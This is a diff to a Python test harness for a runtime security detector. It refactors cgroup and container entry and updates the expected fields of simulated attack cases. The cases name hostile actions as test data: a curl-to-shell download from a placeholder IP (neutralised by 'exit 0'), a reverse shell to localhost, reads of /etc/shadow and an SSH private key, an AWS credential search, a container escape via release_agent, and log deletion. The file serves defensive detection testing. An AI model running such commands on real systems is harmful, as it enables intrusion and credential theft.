@@ -56,20 +56,26 @@ class Stage:
             self.names.add(path)
         return path
 
-    def join(self):
-        with open(os.path.join(self.group, "cgroup.procs"), "w", encoding="ascii") as group:
-            group.write(str(os.getpid()))
+    def enter(self, is_container=False):
+        """Puts the calling process into the container, or into no cgroup whose name could be taken for one's."""
+        groups = [root for root in CGROUP_ROOTS if os.path.exists(os.path.join(root, "cgroup.procs"))]
+        for group in groups + ([self.group] if is_container else []):
+            with open(os.path.join(group, "cgroup.procs"), "w", encoding="ascii") as procs:
+                procs.write(str(os.getpid()))
 
-    def run(self, name, *acts, container=False, **arguments):
+    def run(self, name, *acts, container=False):
         """Runs the actor as `name`; returns the process."""
-        join = self.join if container else None
-        return subprocess.Popen([self.named(name), *acts], stdin=subprocess.DEVNULL, cwd=self.directory, preexec_fn=join, **arguments)
+        return self.command([self.named(name), *acts], container)
+
+    def command(self, command, container=False):
+        """Runs any command."""
+        return subprocess.Popen(command, stdin=subprocess.DEVNULL, cwd=self.directory, preexec_fn=lambda: self.enter(container))
 
     def run_in_terminal(self, name, *acts):
         """Runs the actor in the container with a terminal of its own."""
         pid, terminal = pty.fork()
         if pid == 0:
-            self.join()
+            self.enter(True)
             os.execv(self.named(name), [name, *acts])
         try:
             while os.read(terminal, 4096):
@@ -128,11 +134,11 @@ STABLE = [
     Case("PTRACE attached to process", actor("debugger", "attach"), proc_name="debugger"),
     Case("PTRACE anti-debug attempt", actor("hider", "untraceable"), proc_name="hider"),
     Case("Find AWS Credentials", actor("grep", "sleep", "0", "aws_access_key_id"), proc_name="grep"),
-    Case("Execution from /dev/shm", lambda stage: subprocess.Popen([stage.named("falcod-live-actor", "/dev/shm"), "sleep", "0"]),
+    Case("Execution from /dev/shm", lambda stage: stage.command([stage.named("falcod-live-actor", "/dev/shm"), "sleep", "0"]),
          proc_name="falcod-live-act", proc_exepath="/dev/shm/falcod-live-actor"),
     Case("Drop and execute new binary in container", in_container("dropper", "upper"), proc_name="dropped"),
     Case("Disallowed SSH Connection Non Standard Port", actor("ssh", "network", "203.0.113.9", "connect", "203.0.113.9", "443"),
-         proc_name="ssh", fd_rport=443),
+         proc_name="ssh", fd_type="ipv4", fd_l4proto="tcp"),
     Case("Fileless execution via memfd_create", actor("loader", "memory"), proc_exepath="memfd:payload"),
 ]
 
@@ -142,7 +148,7 @@ STABLE_EXCEPTIONS = {
 }
 
 OWN = [
-    Case("Password hashes read", actor("reader", "read", "/etc/shadow"), proc_name="reader", fd_name="/etc/shadow"),
+    Case("Password hashes read", actor("reader", "read", "/etc/shadow"), proc_name="reader", fd_name="/etc/shadow", container_id="host"),
     Case("Private key read by a foreign program",
          actor("thief", "hide", "/root", "mkdir", "/root/.ssh", "write", "/root/.ssh/id_rsa", "read", "/root/.ssh/id_rsa"),
          proc_name="thief", fd_name="/root/.ssh/id_rsa"),
@@ -165,15 +171,16 @@ OWN = [
          proc_name="raiser", fs_path_name="{stage}/tool"),
     Case("Container left through a kernel interface",
          lambda stage: stage.run("escaper", "write", stage.path("release_agent"), container=True),
-         proc_name="escaper", fd_name="{stage}/release_agent"),
-    Case("Namespace of the host entered from a container", in_container("enterer", "enter"), proc_name="enterer"),
+         proc_name="escaper", fd_name="{stage}/release_agent", container_id=CONTAINER[:12]),
+    Case("Namespace of the host entered from a container", in_container("enterer", "enter"), proc_name="enterer",
+         container_id=CONTAINER[:12]),
     Case("Shell with its input from the network",
          actor("shellback", "connect", "127.0.0.1", "4443", "redirect", "exec", "/bin/sh", "-c", "exit 0"),
          proc_cmdline="sh -c exit 0"),
     Case("Shell started by a server", actor("nginx", "spawn", "/bin/sh", "-c", "exit 0"), proc_pname="nginx"),
     Case("Program started from memory", actor("loader", "memory"), proc_exepath="memfd:payload"),
     Case("Program started from a world-writable directory", actor("resident", "sleep", "0"), proc_exepath="{stage}/resident"),
-    Case("Download handed to a shell", lambda stage: subprocess.Popen(["/bin/sh", "-c", "exit 0; curl http://192.0.2.1/x | sh"]),
+    Case("Download handed to a shell", lambda stage: stage.command(["/bin/sh", "-c", "exit 0; curl http://192.0.2.1/x | sh"]),
          proc_cmdline="sh -c exit 0; curl http://192.0.2.1/x | sh"),
     Case("Log or history destroyed", actor("cleaner", "hide", "/var/log", "write", "/var/log/messages", "unlink", "/var/log/messages"),
          proc_name="cleaner", fs_path_name="/var/log/messages"),
